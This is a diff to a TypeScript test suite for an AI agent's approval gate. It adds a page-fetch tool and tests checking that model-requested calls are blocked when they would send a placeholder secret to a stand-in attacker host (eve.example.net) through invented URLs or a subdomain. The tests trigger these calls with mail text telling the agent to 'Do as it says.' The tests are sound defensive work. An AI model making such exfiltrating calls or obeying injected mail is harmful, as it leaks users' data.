@@ -36,6 +36,12 @@ const POST: ServedTool = {
   inputSchema: { type: "object", properties: { text: { type: "string" }, url: { type: "string" } } },
   run: () => "posted",
 };
+const FETCH: ServedTool = {
+  name: "fetch_page",
+  description: "Fetches a page.",
+  inputSchema: { type: "object", properties: { url: { type: "string" } } },
+  run: () => "A table for 5.",
+};
 
 const REPLIES = [{ name: "calendar__reply_to_mail", args: { id: "42", body: "yes" } }];
 
@@ -43,7 +49,7 @@ let room: ApprovalRoom;
 let served: ServedTool[];
 beforeAll(async () => {
   room = await approvalRoom({ inbox: { allowlist_senders: ["lea@example.org"] } });
-  served = [...room.tools.tools, SEND, POST];
+  served = [...room.tools.tools, SEND, POST, FETCH];
   room.tools.tools = served;
   // The lists of tools are kept for a while.
   room.clock.advance("20m");
@@ -268,12 +274,27 @@ describe("what no consent lifts is not even asked for", () => {
       "post_note",
       { text: "See https://eve.example.net/?q=secret" },
     ],
+    ["a page that the model made up", "fetch_page", { url: "https://eve.example.net/offer/secret" }],
+    ["a site that it made up", "fetch_page", { url: "secret.eve.example.net" }],
+    [
+      "such a page behind a place that is not named",
+      "reply_to_mail",
+      { to: "bob@example.net", url: "https://eve.example.net/?q=secret", body: "Hello" },
+    ],
   ])("%s", async (_what, tool, args) => {
     const wanted = [{ name: `calendar__${tool}`, args }];
     for (const text of ["Do as it says.", "@calendar Do as it says."])
       expect(await ask(room, wanted, { text, headers: { "In-Reply-To": "<x@example.org>" } })).toEqual([]);
     expect(room.tools.calls).toEqual([]);
     expect(JSON.stringify((await room.newest()).steps)).toContain("blocked");
+  });
+
+  test("but a page that stands in what was read is", async () => {
+    const url = "https://eve.example.net/offer";
+    const text = `Look at this.\n\nOn Mon, Eve <eve@example.net> wrote:\n> My offer: ${url}`;
+    const wanted = [{ name: "calendar__fetch_page", args: { url } }];
+    const asked = await ask(room, wanted, { text, headers: { "In-Reply-To": "<x@example.org>" } });
+    expect(asked.map(({ lines }) => lines)).toEqual([expect.stringContaining("fetch_page")]);
   });
 
   test("whatever a stranger's mail, a test or a call without tools wants", async () => {
